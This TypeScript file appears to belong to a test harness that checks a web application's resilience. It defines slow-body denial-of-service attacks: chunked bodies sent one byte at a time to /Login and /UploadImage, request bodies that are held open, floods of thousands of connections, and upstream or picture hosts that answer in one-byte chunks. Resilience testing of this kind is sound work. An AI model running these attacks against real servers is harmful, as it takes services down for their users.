import { setTimeout as wait } from "node:timers/promises";
import { attack, type Attack, type Target } from "./attack";
import { inOneByteChunks } from "./hostile-replies";
import { photoForm, photoParts } from "./photo-form";
import { ask, attackerAddress, formHeaders, headOf, holdAndCut, openSocket, openSockets, postOf } from "./wires";
import { repeat, visitMeanwhile, visitorOf, writeAll } from "./wires";

/** Attacks with bodies that arrive in tiny pieces or remain unfinished. */

const STRIKE_MS = 12_000;
const KB = 1_024;
const BY_BYTE = "in chunks of one byte";

const chunked = (target: Target, path: string, headers: Record<string, string>) =>
  headOf(target, `POST ${path}`, { ...headers, "Transfer-Encoding": "chunked" });

/** Sends all but the last bytes, so that the server holds the body while it waits for more. */
async function sendChunks(target: Target, connections: number, head: string, body: Buffer): Promise<void> {
  const sockets = await openSockets(target, connections);
  const wire = Buffer.concat([Buffer.from(head), inOneByteChunks(body)]);
  await Promise.all(sockets.map((socket) => writeAll(socket, wire, STRIKE_MS - 2_000)));
  await holdAndCut(sockets, 2_000);
}

async function slowBodies(target: Target, body: Buffer): Promise<void> {
  const sockets = await openSockets(target, target.connectionsMax);
  const bytes = postOf(target, "/Login", body, { "Content-Length": body.length + 1_000 });
  await Promise.all(sockets.map((socket) => writeAll(socket, bytes, STRIKE_MS - 4_000)));
  await holdAndCut(sockets, 3_000);
}

/** Each account sends two forms with three photos in chunks of one byte. */
async function prepareUploads(target: Target) {
  const forms = await Promise.all(target.accounts.map((_, index) => photoForm(target, index)));
  const photo = inOneByteChunks(Buffer.alloc(64 * KB - 1, 0x61));
  return async () => {
    const sockets = await Promise.all(
      forms.map(async ({ head, csrf }, index) => {
        const [begin = ""] = photoParts(csrf, [Buffer.alloc(0)])
          .toString("latin1")
          .split("\r\n--x--");
        const own = await openSockets(target, 2, 200 + index);
        const start = `${head({ "Transfer-Encoding": "chunked" })}${begin.length.toString(16)}\r\n${begin}\r\n`;
        await Promise.all(
          own.map((socket) => writeAll(socket, Buffer.concat([Buffer.from(start), photo]), STRIKE_MS - 2_000)),
        );
        return own;
      }),
    );
    await holdAndCut(sockets.flat(), 2_000);
  };
}

/** One account repeatedly uploads in pieces of one byte, while visitors browse. */
async function dribbleUploads(target: Target): Promise<string[]> {
  const form = formHeaders(target, "multipart/form-data; boundary=x");
  const head = chunked(target, "/UploadImage", { ...form, Cookie: target.accounts[0] ?? "" });
  const visitors = visitMeanwhile(target, STRIKE_MS, 50);
  await repeat({ atATime: 4, forMs: STRIKE_MS }, async (number) => {
    const socket = await openSocket(target, attackerAddress(number % 100));
    socket?.setNoDelay(true);
    socket?.write(head);
    for (let pieces = 0; pieces < 400 && socket && !socket.destroyed && socket.bytesRead === 0; pieces += 1) {
      socket.write("1\r\na\r\n");
      await wait(3);
    }
    socket?.destroy();
  });
  return visitors;
}

const EACH_64_KB = Buffer.alloc(64 * KB - 100, 0x61);

export const PIECES: readonly Attack[] = [
  attack("5", "pieces-form", `100 connections, each with 64 kB for /Login ${BY_BYTE}`, {
    prepare: (target) => () => sendChunks(target, 100, chunked(target, "/Login", formHeaders(target)), EACH_64_KB),
  }),
  attack("5", "pieces-thrown-away", `4 connections, each with 1 MB for a page that takes no body ${BY_BYTE}`, {
    prepare: (target) => {
      const head = chunked(target, "/Login", { "Content-Type": "text/plain" });
      return () => sendChunks(target, 4, head, Buffer.alloc(1_000 * KB, 0x61));
    },
  }),
  attack(
    "5",
    "pieces-ahead",
    `100 connections, each with 64 kB ${BY_BYTE} behind a request for a page that is not read`,
    {
      prepare: (target) => {
        const ahead = headOf(target, "GET /Login") + chunked(target, "/Login", formHeaders(target));
        return () => sendChunks(target, 100, ahead, EACH_64_KB);
      },
    },
  ),
  attack("5", "pieces-upload", `8 accounts, each with two photos for /UploadImage ${BY_BYTE}`, {
    accounts: 8,
    prepare: prepareUploads,
  }),
  attack("13", "uploads-dribbled", "one account uploads on 4 connections, byte by byte, again and again", {
    accounts: 1,
    prepare: (target) => () => dribbleUploads(target),
  }),
  attack("5", "slow-bodies", "5,000 connections (1,000 through a proxy) with 63 kB for /Login that do not end", {
    prepare: (target) => () => slowBodies(target, Buffer.alloc(63 * KB, 0x61)),
  }),
  attack("5", "pieces-picture", `a picture host sends 7.5 MB ${BY_BYTE}`, {
    prepare: (target) => async () => {
      const paths = (target.pictures.pieces ?? []).slice(0, 3);
      await Promise.all(paths.map((path, at) => ask(target, headOf(target, `GET ${path}`), at + 1, STRIKE_MS)));
      await wait(500);
    },
  }),
  attack("5", "pieces-upstream", `the upstream sends 7.5 MB of orders ${BY_BYTE}, to 3 accounts`, {
    accounts: 3,
    hostility: { server: "upstream", call: "getOrderList", reply: "one-byte chunks" },
    buys: "after",
    prepare: (target) => async () => {
      const visitors = target.accounts.map((cookie, at) => visitorOf(target, cookie, attackerAddress(at + 1)));
      await Promise.allSettled(visitors.map((visitor) => visitor.open("/MyOrder")));
    },
  }),
];
